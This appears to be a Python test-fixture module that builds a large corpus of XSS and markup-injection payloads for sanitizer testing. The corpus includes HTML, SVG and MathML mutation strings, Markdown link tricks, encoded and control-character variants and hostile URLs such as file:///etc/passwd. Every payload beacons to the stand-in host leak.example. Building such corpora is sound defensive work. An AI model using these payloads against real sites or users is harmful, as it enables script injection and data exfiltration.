"""Markup that runs a script, fetches, navigates or posts where it is shown as it stands.

`{J}` stands for a script that asks `leak.example` for something, `{U}` for a URL there. They are
what the field collects: the OWASP and PortSwigger cheat sheets' kinds, mutations of DOMPurify's
history, Markdown's ways to a link.
"""

from __future__ import annotations

LEAK = "leak.example"
_SCRIPT = f"new(Image)().src=`http://{LEAK}/ran`"
_URL = f"http://{LEAK}/x"

_HTML = r"""
<script>{J}</script>
<ScRiPt>{J}</sCrIpT>
<script src={U}></script>
<script/x>{J}</script>
<<script>{J}//<</script>
<scr<script>ipt>{J}</scr</script>ipt>
<script>{J}
</div></td></tr></table></div><script>{J}</script>
</title><script>{J}</script>
</style><script>{J}</script>
--><script>{J}</script>
]]><script>{J}</script>
<![CDATA[<script>{J}</script>]]>
<?xml version="1.0"?><script>{J}</script>
<!--[if gte IE 4]><script>{J}</script><![endif]-->
<!--><script>{J}</script>-->
<!--!><script>{J}</script>
<![endif]--><script>{J}</script><!--[if mso]>
<img src=x onerror={J}>
<img src={U}>
<img srcset="{U} 2x">
<img src=x onerror={J}//
<img/src/onerror={J}>
<img src='x'onerror={J}>
<img src=`x` onerror={J}>
<img alt="`><script>{J}</script>" src=x>
<img src={U} width=2 height=2>
<img src="{U}" alt='"><script>{J}</script>'>
<picture><source srcset={U}><img src=x></picture>
<image src={U}>
<svg onload={J}>
<svg/onload={J}//
<svg><script>{J}</script></svg>
<svg><script href={U}></script></svg>
<svg><image href={U}></svg>
<svg><image xlink:href={U}></svg>
<svg><use href={U}#x></svg>
<svg><animate onbegin={J} attributeName=x dur=1s>
<svg><a xlink:href=javascript:{J}><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:{J}></animate><text y=20>x</text></a></svg>
<svg><foreignObject><img src=x onerror={J}></foreignObject></svg>
<svg><style>@import url({U});</style></svg>
<svg><feImage href={U}></svg>
<svg><style><img src=x onerror={J}></style></svg>
<svg></p><style><a id="</style><img src=x onerror={J}>">
<svg><title><script>{J}</script></title></svg>
<svg><desc><iframe src={U}></desc></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={J}&gt;">
<math><mtext><mglyph><style></math><img src onerror={J}>
<form><math><mtext></form><form><mglyph><style></math><img src onerror={J}>
<math><annotation-xml encoding=text/html><img src=x onerror={J}></annotation-xml></math>
<math href=javascript:{J}>x</math>
<noscript><p title="</noscript><img src=x onerror={J}>">
<noembed><p title="</noembed><img src=x onerror={J}>">
<noframes><p title="</noframes><img src=x onerror={J}>">
<xmp><p title="</xmp><img src=x onerror={J}>">
<textarea><p title="</textarea><img src=x onerror={J}>">
<title><p title="</title><img src=x onerror={J}>">
<iframe><p title="</iframe><img src=x onerror={J}>">
<style><p title="</style><img src=x onerror={J}>">
<listing>&lt;img src=x onerror={J}&gt;</listing>
<plaintext><img src=x onerror={J}>
<select><style></select><img src=x onerror={J}></style>
<table><td><select><img src=x onerror={J}></select></table>
<template><script>{J}</script></template>
<div><template shadowrootmode=open><img src=x onerror={J}></template></div>
<p title='--><img src=x onerror={J}>'>
<a title="&lt;/title&gt;&lt;img src=x onerror={J}&gt;">x</a>
&lt;img src=x onerror={J}&gt;
&amp;lt;img src=x onerror={J}&amp;gt;
&#60;img src=x onerror={J}&#62;
<pre>&lt;script&gt;{J}&lt;/script&gt;</pre>
<style>@import '{U}';</style>
<style>body{{background:url({U})}}</style>
<style>*{{background:url({U})}}
<link rel=stylesheet href={U}>
<link rel=preload as=image href={U}>
<link rel=prefetch href={U}>
<link rel=icon href={U}>
<link rel=manifest href={U}>
<div style='background:url({U})'>x</div>
<div style="background-image:u\72l({U})">x</div>
<div style="background:image-set('{U}' 1x)">x</div>
<div style="list-style:url({U});display:list-item">x</div>
<div style="content:url({U})">x</div>
<div style="width:expression({J})">x</div>
<p style='position:fixed;inset:0;background:#fff'>overlay</p>
<p class=continuation-email>x</p>
<table background={U}><tr><td background={U}>x</table>
<body background={U} onload={J}>
<body onpageshow={J}>
<html onmouseover={J} manifest={U}>
<iframe src={U}></iframe>
<iframe srcdoc="<img src=x onerror={J}>"></iframe>
<iframe src="javascript:{J}">
<frameset onload={J}><frame src={U}></frameset>
<object data={U}></object>
<object data="data:text/html,<script>{J}</script>"></object>
<embed src={U}>
<applet code={U}></applet>
<meta http-equiv=refresh content="0;url={U}">
<meta http-equiv=refresh content="0;url=data:text/html,<script>{J}</script>">
<meta http-equiv=Content-Security-Policy content="report-uri {U}">
<base href=http://leak.example/><img src=x><a href=y>y</a>
<base target=_top>
<form action={U}><input name=a value=b><input type=submit></form>
<form id=f action={U} method=post></form><button form=f>x</button>
<button formaction=javascript:{J}>x</button>
<input type=image src={U}>
<input autofocus onfocus={J}>
<textarea autofocus onfocus={J}></textarea>
<isindex action={U}>
<details open ontoggle={J}>x</details>
<video src={U} autoplay></video>
<video poster={U}></video>
<audio src={U} autoplay onerror={J}></audio>
<video><source onerror={J} src=x></video>
<marquee onstart={J}>x</marquee>
<bgsound src={U}>
<a href="javascript:{J}">x</a>
<a href=" &#14; javascript:{J}">x</a>
<a href="jav&#x09;ascript:{J}">x</a>
<a href="jav&#x0A;ascript:{J}">x</a>
<a href="&#106;&#97;vascript&colon;{J}">x</a>
<a href="javascript&#58;{J}">x</a>
<a href="JaVaScRiPt://%0a{J}">x</a>
<a href="http://a.example/&#10;javascript:{J}">x</a>
<a href="vbscript:{J}">x</a>
<a href="data:text/html,<script>{J}</script>">x</a>
<a href="view-source:{U}">x</a>
<a href="mailto:a@b.example?body=<script>{J}</script>">x</a>
<a href="mailto:a@b.example&quot; onmouseover=&quot;{J}">x</a>
<a href="http://a.example/&quot; onmouseover=&quot;{J}">x</a>
<a href='http://a.example/"onmouseover="{J}'>x</a>
<a href="{U}" ping="{U}" download target=_top onclick={J}>x</a>
<a href="//leak.example/x">x</a>
<a href="\\leak.example\x">x</a>
<a href=/relative>x</a>
<area href=javascript:{J}>
<map name=m><area shape=default href=javascript:{J}></map><img usemap=#m src=x>
<b onanimationstart={J} style="animation:x 1s">x</b>
<x onclick={J} tabindex=1 onfocus={J} autofocus>x</x>
<div contenteditable autofocus tabindex=1 onfocus={J}>x</div>
<p id=body name=cookie is=x slot=y part=z itemid={U} cite={U}>x</p>
<blockquote cite={U}>x</blockquote>
<ol start="1&quot; onclick=&quot;{J}"><li value="1" onclick={J}>x</ol>
<td colspan="2&quot; onclick=&quot;{J}">x</td>
<img width="1&quot; onerror=&quot;{J}" src=x>
+ADw-script+AD4-{J}+ADw-/script+AD4-
＜script＞{J}＜/script＞
" onmouseover={J} x="
' onmouseover={J} x='
"><img src=x onerror={J}>
'><svg onload={J}>
</a><script>{J}</script>
</table></table></table></body></html><script>{J}</script>
{{{{constructor.constructor("{J}")()}}}}
${{{J}}}
"""

_MARKDOWN = r"""
[x](javascript:{J})
[x](JaVaScRiPt:{J})
[x](&#106;avascript:{J})
[x](java&Tab;script:{J})
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:{J})
[x](<javascript:{J}>)
[x](\javascript:{J})
![x]({U})
![x](javascript:{J})
![x](data:image/svg+xml,<svg/onload={J}>)
![" onerror="{J}]({U})
[x]({U} "onmouseover='{J}'")
[x]({U} '"><img src=x onerror={J}>')
[x](http://a.example" onclick="{J})
[![x]({U})](javascript:{J})
[a](http://a.example/<b>"'`)
<javascript:{J}>
<{U} onerror={J}>
<http://a.example/"onmouseover={J}>
http://a.example/"><img/src=x/onerror={J}>
http://a.example/'onmouseover='{J}
http://a.example/&quot;onmouseover=&quot;{J}
`<script>{J}</script>`
**<img src=x onerror={J}>**
> <img src=x onerror={J}>
- <svg onload={J}>
|a|b|¶|-|-|¶|<script>{J}</script>|x|
![x][r]¶¶[r]: {U}
[x][r]¶¶[r]: javascript:{J}
```html"onclick={J}¶<script>{J}</script>¶```
<!-- -->¶<script>{J}</script>
<div>¶<script>{J}</script>¶¶</div>
\<script>{J}\</script>
"""

#: What cannot stand in a line above.
_OTHERS = (
    "<img \x00src=x onerror={J}>",
    "\x00<scr\x00ipt>{J}</script>",
    "<\u200bscript>{J}</script>",
    "<script\u2028>{J}</script>",
    "<script\x0c>{J}</script>",
    "\ufeff<script>{J}</script>",
    '<a href="java\x00script:{J}">x</a>',
    '<a href="\x01javascript:{J}">x</a>',
    '<a href="java\nscript:{J}">x</a>',
    "[x](java\nscript:{J})",
    "<b>" * 300 + "<script>{J}</script>",
    "<div>" * 500 + "<img src=x onerror={J}>",
    "<b>" * 8_100 + "<img src=x onerror={J}>",
)

_URLS = r"""
{U}
javascript:{J}
JAVASCRIPT://x/%0a{J}
data:text/html,<script>{J}</script>
vbscript:{J}
//leak.example/x
http://a.example/"onerror="{J}
http://a.example/" onerror="{J}
http://a.example/"><script>{J}</script>
http://a.example/'onmouseover='{J}
http://a.example/x)}}</style><script>{J}</script>
http:javascript:{J}
https:/\leak.example/x
http://a.example\@leak.example/
http://user:secret@leak.example/
file:///etc/passwd
blob:http://a.example/x
filesystem:http://a.example/x
http://a.example/?q=<script>{J}</script>#<img src=x onerror={J}>
http://a.example/{{{{7*7}}}}{{% for x in y %}}
"""


def _filled(lines: str) -> list[str]:
    """One text a line; in it ¶ stands for a line end."""
    texts = lines.strip().splitlines()
    return [text.format(J=_SCRIPT, U=_URL).replace("¶", "\n") for text in texts]


HTML = _filled(_HTML)
MARKDOWN = _filled(_MARKDOWN)
OTHERS = [text.replace("{J}", _SCRIPT) for text in _OTHERS]
URLS = _filled(_URLS)
MARKUP = [*HTML, *MARKDOWN, *OTHERS, *URLS]
